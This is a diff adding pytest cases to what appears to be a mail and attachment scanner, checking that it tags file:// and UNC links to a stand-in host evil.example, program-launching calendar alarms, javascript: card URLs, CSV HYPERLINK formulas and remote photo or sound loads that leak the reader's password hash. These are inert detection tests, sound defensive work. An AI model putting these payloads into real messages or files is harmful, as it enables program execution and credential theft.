@@ -74,6 +74,88 @@ def test_an_ordinary_base_has_no_tag(base: bytes) -> None:
     assert "office:launch" not in found(properties(base))[0]
 
 
+PATHS = {
+    "in brackets": b"see <file://evil.example/a b/x.exe>\r\n",
+    "over two lines": b"see <file://evil.example/a\r\nb/x.exe>\r\n",
+    "a path": rb"see \\evil.example\share\x.exe.",
+    "a path in brackets": rb"see <\\evil.example\share\x.exe>",
+    "in capitals": b"FILE://EVIL.EXAMPLE/X.EXE",
+    "over WebDAV": rb"\\evil.example@80\x.lnk",
+    "a file that Outlook opens": rb"<file:///\\evil.example\x.rtf!y>",
+}
+
+
+@pytest.mark.parametrize("body", PATHS.values(), ids=PATHS)
+def test_a_path_that_outlook_makes_a_link_had_no_tag(body: bytes) -> None:
+    tags, hosts = found(mail(body))
+    assert "url:starts-program" in tags and "evil.example" in hosts
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        rb"copy it to \\server\share\setup.exe",
+        rb"look at \\files.example\share\report.pdf",
+        b"see file:///C:/Users/a/setup.exe and file://localhost/x.exe",
+        rb"a & b \\ \hline 1.5 \\2.5 \textbf{x.exe}",
+        b"download https://example.org/setup.exe",
+    ],
+)
+def test_an_ordinary_text_has_no_such_link(body: bytes) -> None:
+    assert not found(mail(body))[0]
+
+
+STARTING = {
+    "an attachment": invited(b"ATTACH:file://evil.example/share/x.exe"),
+    "a path": invited(b"ATTACH;FMTTYPE=a/b:" + BASE + rb"\x.exe"),
+    "an escaped path": invited(rb"DESCRIPTION:open \\\\evil.example\\share\\x.exe now\, please"),
+    "a folded line": invited(b"URL:file://evil.exam\r\n ple/x.exe"),
+    "a parameter": invited(b'SUMMARY;ALTREP="file://evil.example/x.exe":x'),
+    "a description in HTML": invited(b'X-ALT-DESC;FMTTYPE=text/html:<a href="file://evil.example/x.exe">x</a>'),
+    "a search": invited(b"URL;VALUE=URI:search-ms:query=x&crumb=location:" + BASE),
+    "an alarm that is a program": invited(ALARM % b"ACTION:PROCEDURE\r\nATTACH:file:///C:/x/calc.exe"),
+    "an alarm of vCalendar": attached(CALENDAR % b"PALARM:19971210T090000Z;;;x.exe", "a.vcs"),
+    "an appointment in an archive": attached(zipped(("a.ics", CALENDAR % b"URL:file://evil.example/x.exe")), "a.zip"),
+    "a card": card(b"item1.URL;TYPE=work:file://evil.example/x.exe"),
+    "a key of a card": card(b"KEY;VALUE=uri:" + BASE + rb"\x.exe"),
+    "a script in a card": card(b"URL:javascript:alert(1)"),
+    "a card in quoted-printable": card(b"URL;ENCODING=QUOTED-PRINTABLE:file:=2F=2Fevil.example/x.exe"),
+    "a quoted cell": attached(b'a,"=HYPERLINK(""file://evil.example/x.exe"",""open"")"\r\n', "a.csv"),
+}
+
+
+@pytest.mark.parametrize("content", STARTING.values(), ids=STARTING)
+def test_the_links_of_appointments_and_cards_were_hosts_and_nothing_else(content: bytes) -> None:
+    assert "url:starts-program" in found(content)[0]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        card(b"PHOTO;VALUE=uri:file://evil.example/p.jpg"),
+        card(b"SOUND;VALUE=uri:" + BASE + rb"\a.wav"),
+        invited(ALARM % b"ACTION:AUDIO\r\nATTACH;FMTTYPE=audio/basic:file://evil.example/s.au"),
+    ],
+    ids=["photo", "sound", "alarm"],
+)
+def test_what_a_card_or_an_alarm_loads_from_a_file_server_had_no_tag(content: bytes) -> None:
+    """The reader's password hash is sent to that server."""
+    assert "office:remote-object" in found(content)[0]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        card(b"URL:https://example.org/\r\nPHOTO;VALUE=uri:https://example.org/p.jpg\r\nNOTE:Search:all"),
+        invited(b"ATTACH:https://example.org/a.exe\r\nSUMMARY:Search:flats\r\nORGANIZER:mailto:a@example.org"),
+        invited(ALARM % b"ACTION:DISPLAY\r\nDESCRIPTION:Reminder\r\nTRIGGER:-PT15M"),
+        invited(ALARM % b"ACTION:AUDIO\r\nATTACH;VALUE=URI:Basso\r\nTRIGGER:-PT15M"),
+    ],
+)
+def test_ordinary_appointments_and_cards_have_no_tag(content: bytes) -> None:
+    assert not found(content)[0]
+
+
 @pytest.mark.parametrize(
     ("head", "tag"),
     [
